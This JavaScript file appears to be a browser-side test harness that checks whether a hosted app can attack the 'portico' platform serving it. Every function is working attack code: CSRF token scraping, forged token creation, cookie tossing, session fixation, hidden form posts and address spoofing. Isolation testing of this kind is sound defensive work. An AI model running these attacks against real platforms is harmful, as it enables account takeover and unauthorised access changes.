// Each tells what it has got; what was refused it tells as "refused".

const asVisitor = { credentials: "include" };
const form = (fields) => new URLSearchParams(fields);
const soon = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function textOf(address, options) {
  const answer = await fetch(address, options);
  return answer.ok ? answer.text() : `refused with ${answer.status}`;
}

async function csrfToken(page) {
  const found = /name="csrfmiddlewaretoken" value="(\w+)"/.exec(await textOf(page, asVisitor));
  return found[1];
}

const attacks = {
  // The visitor's apps, by the platform's API.
  readApps: async ({ portal }) =>
    JSON.parse(await textOf(`${portal}/-/api/v1/apps`, asVisitor)).map((app) => app.name),

  readAppsAsStranger: ({ portal }) =>
    textOf(`${portal}/-/api/v1/apps`, { credentials: "omit" }),

  readPageOfPlatform: async ({ portal }) =>
    (await textOf(`${portal}/-/portal/`, asVisitor)).includes("Sign out"),

  // A token that would outlive the visit.
  makeToken: async ({ portal }) => {
    const page = `${portal}/-/accounts/tokens/`;
    const csrfmiddlewaretoken = await csrfToken(page);
    const fields = { csrfmiddlewaretoken, name: "stolen", days: 30 };
    return /portico_\w+/.test(await textOf(page, { ...asVisitor, method: "POST", body: form(fields) }));
  },

  // The same, and more, without reading anything: whoever looks after it sees whether it came true.
  postBlindly: async ({ portal, app }) => {
    const planted = "c".repeat(32);
    for (const name of ["portico_csrf", "__Host-portico_csrf", "__Secure-portico_csrf"]) {
      for (const rest of ["Path=/-/", "Path=/", "Path=/-/; Domain=example.org"]) {
        document.cookie = `${name}=${planted}; ${rest}; Secure`;
      }
    }
    const sends = [
      [`${portal}/-/accounts/tokens/`, form({ csrfmiddlewaretoken: planted, name: "stolen", days: 30 })],
      [`${portal}/-/manage/${app}/access/`, form({ csrfmiddlewaretoken: planted, do: "choose", access: "public" })],
      [`${portal}/-/api/v1/tokens`, JSON.stringify({ name: "stolen" })],
    ];
    for (const [address, body] of sends) {
      await fetch(address, { ...asVisitor, mode: "no-cors", method: "POST", body }).catch(() => null);
      navigator.sendBeacon(address, body);
    }
    return "sent";
  },

  // Forms are no fetch: they need no permission to be sent, and their answer lands in a frame.
  postForms: async ({ portal, app }) => {
    const planted = "c".repeat(32);
    const forms = [
      ["/-/accounts/tokens/", { name: "stolen", days: 30 }],
      ["/-/accounts/logout/", {}],
      [`/-/manage/${app}/access/`, { do: "choose", access: "public" }],
    ];
    for (const [path, fields] of forms) {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.name = `f${Math.random()}`;
      const sent = document.body.appendChild(document.createElement("form"));
      Object.assign(sent, { method: "post", action: portal + path, target: frame.name });
      for (const [name, value] of Object.entries({ csrfmiddlewaretoken: planted, ...fields })) {
        sent.appendChild(Object.assign(document.createElement("input"), { name, value }));
      }
      const loaded = new Promise((resolve) => (frame.onload = resolve));
      sent.submit();
      await Promise.race([loaded, soon(5000)]);
    }
    return "sent";
  },

  framePlatform: async ({ portal }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.src = `${portal}/-/portal/`;
    await new Promise((resolve) => (frame.onload = resolve));
    return frame.contentDocument?.body.textContent.includes("Sign out") ?? "not readable";
  },

  // What a page that was opened can be made to show, or shows.
  openPlatform: async ({ portal }) => {
    const opened = open(`${portal}/-/portal/`);
    for (let n = 0; n < 100 && !opened.closed; n++) {
      await soon(50);
      let text = "";
      try { text = opened.document.body?.textContent ?? ""; } catch { /* another origin */ }
      if (text.includes("Sign out")) return "reads it";
    }
    opened.postMessage("do something", "*");
    return opened.closed ? "out of reach" : "holds it";
  },

  registerWorkers: async ({ scopes }) => {
    const got = [];
    for (const scope of scopes) {
      await navigator.serviceWorker.register("worker.js", { scope }).then(
        (worker) => { got.push(scope); return worker.unregister(); },
        () => null,
      );
    }
    return got;
  },

  readCookies: () => document.cookie.split("; ").filter((one) => one.includes("portico_") && !one.includes("planted")),

  // A session of the attacker's in place of the visitor's own.
  plantSession: ({ session }) => {
    for (const name of ["portico_session", "__Host-portico_session", "__Secure-portico_session"]) {
      for (const path of ["/-/", "/-", "/", "/-/portal/", "/-/portal"]) {
        for (const domain of ["", "; Domain=example.org"]) {
          document.cookie = `${name}=${session}; Path=${path}${domain}; Secure`;
        }
      }
    }
    return "planted";
  },

  pretendAddress: ({ portal }) => {
    history.pushState(null, "", `${portal}/-/accounts/login/`);
    const shown = location.href;
    history.back();
    return shown.endsWith("/-/accounts/login/");
  },

  readOtherApp: async ({ other, needle }) => (await textOf(other, asVisitor)).includes(needle),

  // A visit of the attacker's to another app, so that its visitor is there as the attacker.
  plantVisit: ({ visit, domain }) => {
    for (const name of ["portico_viewer", "__Host-portico_viewer", "__Secure-portico_viewer"]) {
      for (const path of ["/talk/", "/talk", "/"]) {
        document.cookie = `${name}=${visit}; Path=${path}; Domain=${domain}; Secure`;
      }
    }
    document.cookie = `=__Host-portico_viewer=${visit}; Path=/talk/; Domain=${domain}; Secure`;
    return "planted";
  },

  openSocketOfPlatform: ({ portal, app }) =>
    new Promise((resolve) => {
      const address = `${portal.replace("http", "ws")}/-/api/v1/apps/${app}/sessions/${"x".repeat(20)}`;
      const socket = new WebSocket(address);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("refused");
    }),
};

async function attack(name, aims) {
  try {
    return await attacks[name](aims);
  } catch (error) {
    return `refused: ${error.name}`;
  }
}
